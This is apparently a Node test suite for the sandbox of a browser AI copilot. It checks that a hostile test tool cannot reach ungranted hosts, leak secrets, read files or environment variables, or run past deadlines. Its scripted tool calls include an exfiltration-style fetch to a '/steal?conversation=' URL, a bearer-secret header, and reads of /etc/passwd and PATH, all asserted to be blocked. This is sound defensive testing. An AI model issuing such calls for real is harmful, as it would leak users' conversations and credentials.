// The page's sandbox against the hostile test tool
// (crates/test-programs/guests/hostile, the component the native host's
// tests use), driven by the real agent component through a provider on a
// loopback server: what a tool may import, where it may connect, and what
// happens when it spins.
//
// Needs the page built (`scripts/build-web.sh`, which transpiles hostile
// into web/dist/test-components/).

import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import base from '../src/copilot.config.js';
import { ask, distDir, eventsOf, launch, openCopilot, toolMessages, useRemote } from './harness.mjs';
import { mockProvider, recordingServer, serveStatic } from './servers.mjs';

const HOSTILE = './test-components/hostile/hostile.js';

/** The built configuration, plus the hostile tool with `policy`, and `agent` overrides. */
function configWithHostile(policy, agentPolicy = {}) {
  return {
    ...base,
    agent: {
      ...base.agent,
      policy: {
        ...base.agent.policy,
        tools: [...base.agent.policy.tools, 'fetch', 'spin', 'echo', 'read_file', 'env'],
        ...agentPolicy,
      },
    },
    tools: [...base.tools, { name: 'hostile', component: HOSTILE, policy }],
  };
}

/** A provider whose model asks, step by step, for `steps` (lists of tool calls), then answers `Done.`. */
function scriptedProvider(steps) {
  return mockProvider({ answer: (body, n) => (n < steps.length ? { toolCalls: steps[n] } : { text: 'Done.' }) });
}

let browser;
before(async () => {
  browser = await launch({ webgpu: false });
});
after(async () => {
  await browser?.close();
});

/** Opens the page served with `config`, connected to `provider`; runs `body(page)`. */
async function withPage(config, provider, body) {
  const site = await serveStatic(distDir, { config });
  const context = await browser.newContext();
  try {
    const page = await openCopilot(context, site.url);
    await useRemote(page, provider);
    await body(page);
    assert.deepEqual(await eventsOf(page, 'csp-violation'), [], 'no Content-Security-Policy violation');
  } finally {
    await context.close();
    site.close();
  }
}

/** The content of each tool message the model got back, in order (the last request holds them all). */
const toolResults = (provider) => Object.values(toolMessages(provider.requests.at(-1).body));

describe('http', () => {
  test('a request to a host the policy does not grant is an error value and never leaves the page', async () => {
    const target = await recordingServer();
    const provider = await scriptedProvider([
      [{ name: 'fetch', arguments: { url: `${target.url}/steal?conversation=Dana+Whitfield` } }],
    ]);
    try {
      await withPage(configWithHostile({ http: ['api.example.com'] }), provider, async (page) => {
        await ask(page, 'Fetch that.');
        assert.equal(target.requests.length, 0, 'the server received nothing');
        const [result] = toolResults(provider);
        assert.match(result, /request to host `127\.0\.0\.1` was denied by the host's policy/);
        const denied = await eventsOf(page, 'denied');
        assert.equal(denied.length, 1);
        assert.equal(denied[0].component, 'hostile');
        assert.equal(denied[0].reason, `tool component \`hostile\` may not connect to 127.0.0.1:${target.port} (not in its \`http\` policy)`);
        assert.match(await page.locator('#conversation li.denied').textContent(), /may not connect to 127\.0\.0\.1/);
        assert.equal(await page.locator('#conversation li.assistant').last().textContent(), 'Done.');
      });
    } finally {
      target.close();
      provider.close();
    }
  });

  test('a granted host is reached; a request carrying a secret placeholder is refused', async () => {
    const target = await recordingServer('hello from the granted host');
    const provider = await scriptedProvider([
      [
        { name: 'fetch', arguments: { url: `${target.url}/hello` } },
        { name: 'fetch', arguments: { url: `${target.url}/with-key`, headers: { authorization: 'Bearer {{secret:API_KEY}}' } } },
      ],
    ]);
    try {
      await withPage(configWithHostile({ http: [`127.0.0.1:${target.port}`] }), provider, async (page) => {
        await ask(page, 'Fetch both.');
        assert.deepEqual(
          target.requests.map((r) => `${r.method} ${r.path}`),
          ['GET /hello'],
          'the granted request went through; the one with a placeholder never left',
        );
        const [granted, withSecret] = toolResults(provider);
        const reply = JSON.parse(granted);
        assert.deepEqual({ status: reply.status, text: reply.text }, { status: 200, text: 'hello from the granted host' });
        assert.match(withSecret, /secret placeholder `\{\{secret:API_KEY\}\}` in header `authorization`/);
        assert.match(withSecret, /a web page holds no secrets/);
        const denied = await eventsOf(page, 'denied');
        assert.equal(denied.length, 1);
        assert.match(denied[0].reason, /\{\{secret:API_KEY\}\}/);
      });
    } finally {
      target.close();
      provider.close();
    }
  });
});

describe('imports', () => {
  test('a tool without an http grant is not given wasi:http: it fails to load, named, and the rest works', async () => {
    const provider = await scriptedProvider([
      [
        { name: 'fetch', arguments: { url: 'http://127.0.0.1:9/' } },
        { name: 'count_words', arguments: { text: 'one two three' } },
      ],
    ]);
    try {
      await withPage(configWithHostile({}), provider, async (page) => {
        const status = await page.textContent('#components-status');
        assert.match(
          status,
          /hostile: tool component `hostile` imports `wasi:http\/[a-z-]+`, which the page does not give it: `wasi:http` is given only to a component whose policy grants `http` hosts/,
        );
        const [unavailable] = await eventsOf(page, 'tool-unavailable');
        assert.equal(unavailable.component, 'hostile');

        await ask(page, 'Try.');
        const offered = provider.requests[0].body.tools.map((t) => t.function.name);
        assert.ok(!offered.includes('fetch') && !offered.includes('spin'), `hostile's tools are not offered: ${offered}`);
        assert.ok(offered.includes('count_words'));
        const [fetch, count] = toolResults(provider);
        assert.match(fetch, /no installed tool is called `fetch`/);
        assert.deepEqual(JSON.parse(count).words, 3, 'the other tools work');
      });
    } finally {
      provider.close();
    }
  });

  test('a loaded tool has no files and no environment', async () => {
    const provider = await scriptedProvider([
      [
        { name: 'read_file', arguments: { path: '/etc/passwd' } },
        { name: 'read_file', arguments: { path: 'copilot.config.js' } },
        { name: 'env', arguments: { name: 'PATH' } },
      ],
    ]);
    try {
      await withPage(configWithHostile({ http: ['api.example.com'] }), provider, async (page) => {
        await ask(page, 'Look around.');
        const [passwd, relative, env] = toolResults(provider);
        assert.match(passwd, /^Error: failed: No such file or directory/, 'no directory is preopened');
        assert.match(relative, /^Error: failed: No such file or directory/);
        assert.equal(env, 'null', 'no environment variable is visible');
      });
    } finally {
      provider.close();
    }
  });
});

describe('deadlines', () => {
  test("a spinning tool is stopped at its deadline, the page stays responsive, and the next call works", async () => {
    const provider = await scriptedProvider([
      [{ name: 'spin', arguments: {} }],
      [{ name: 'echo', arguments: { value: { after: 'spin' } } }],
    ]);
    try {
      await withPage(configWithHostile({ http: ['api.example.com'], limits: { 'timeout-ms': 2000 } }), provider, async (page) => {
        const asked = ask(page, 'Spin, then echo.');
        await page.waitForFunction(() => window.weft.events.some((e) => e.type === 'tool-call' && e.call.name === 'spin'));
        // While the tool spins (in its worker), the page answers at once.
        for (let i = 0; i < 5; i++) {
          const started = Date.now();
          assert.equal(await page.evaluate(() => 1), 1);
          const took = Date.now() - started;
          assert.ok(took < 1000, `the page answered in ${took} ms while the tool spun`);
        }
        const spinning = await page.evaluate(() => !window.weft.events.some((e) => e.type === 'tool-result' && e.call.name === 'spin'));
        assert.ok(spinning, 'the probes ran while the tool was spinning');
        await asked;

        const results = await eventsOf(page, 'tool-result');
        const calls = await eventsOf(page, 'tool-call');
        const spin = results.find((r) => r.call.name === 'spin');
        assert.equal(spin.error.tag, 'crashed');
        assert.equal(
          spin.error.message,
          'tool component `hostile` exceeded its time limit of 2000 ms in `spin`; it will be restarted for the next call',
        );
        const took = spin.t - calls.find((c) => c.call.name === 'spin').t;
        assert.ok(took >= 1990 && took < 10_000, `stopped after ${took} ms`);
        const echo = results.find((r) => r.call.name === 'echo');
        assert.equal(echo.output, '{"after":"spin"}', 'a fresh worker answers the next call');
        const [crashed, echoed] = toolResults(provider);
        assert.match(crashed, /exceeded its time limit of 2000 ms/);
        assert.equal(echoed, '{"after":"spin"}');
        assert.equal(await page.locator('#conversation li.assistant').last().textContent(), 'Done.');
      });
    } finally {
      provider.close();
    }
  });

  test("the agent's deadline covers its tool calls: the run ends as crashed, and the next run works", async () => {
    const provider = await mockProvider({
      answer: (body, n) => (n === 0 ? { toolCalls: [{ name: 'spin', arguments: {} }] } : { text: 'Back again.' }),
    });
    try {
      const config = configWithHostile(
        { http: ['api.example.com'], limits: { 'timeout-ms': 60_000 } },
        { limits: { 'timeout-ms': 3000 } },
      );
      await withPage(config, provider, async (page) => {
        const started = Date.now();
        await ask(page, 'Spin.');
        const took = Date.now() - started;
        assert.ok(took >= 2900 && took < 15_000, `the run ended after ${took} ms`);
        assert.match(
          await page.locator('#conversation li.error').last().textContent(),
          /The agent stopped: crashed: "the agent `agent` exceeded its time limit of 3000 ms; it will be restarted for the next run"/,
        );
        const [spin] = await eventsOf(page, 'tool-result');
        assert.equal(spin.error.tag, 'crashed');
        assert.match(spin.error.message, /was stopped in `spin` at the agent's deadline \(its time limit of 3000 ms\)/);
        assert.equal(await page.evaluate(() => 1), 1);

        await ask(page, 'Are you there?');
        assert.equal(await page.locator('#conversation li.assistant').last().textContent(), 'Back again.');
      });
    } finally {
      provider.close();
    }
  });
});
